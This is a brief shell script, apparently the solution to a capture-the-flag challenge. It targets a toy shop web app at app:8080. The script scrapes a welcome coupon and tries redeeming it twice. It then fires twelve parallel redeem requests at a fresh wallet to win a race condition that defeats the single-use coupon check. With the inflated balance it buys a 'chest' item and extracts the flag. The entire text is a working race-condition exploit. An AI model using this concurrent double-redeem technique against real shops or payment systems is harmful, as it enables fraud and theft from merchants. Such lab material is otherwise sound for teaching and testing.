#-- the shop, a wallet, and the coupon once and again
curl -s http://app:8080/
coupon=$(curl -s http://app:8080/ | grep -o 'WELCOME-[0-9]*')
curl -s http://app:8080/open -d wallet=first
for again in 1 2; do curl -s http://app:8080/redeem -d wallet=first -d "coupon=$coupon"; done
#-- redeeming takes a moment: many at once in a new wallet
curl -s http://app:8080/open -d wallet=second
for each in $(seq 12); do curl -s -o /dev/null http://app:8080/redeem -d wallet=second -d "coupon=$coupon" & done; wait
curl -s 'http://app:8080/wallet?name=second'
#-- enough for the chest
curl -s http://app:8080/buy -d wallet=second -d thing=chest | grep -o 'flag{[0-9a-f]*}'
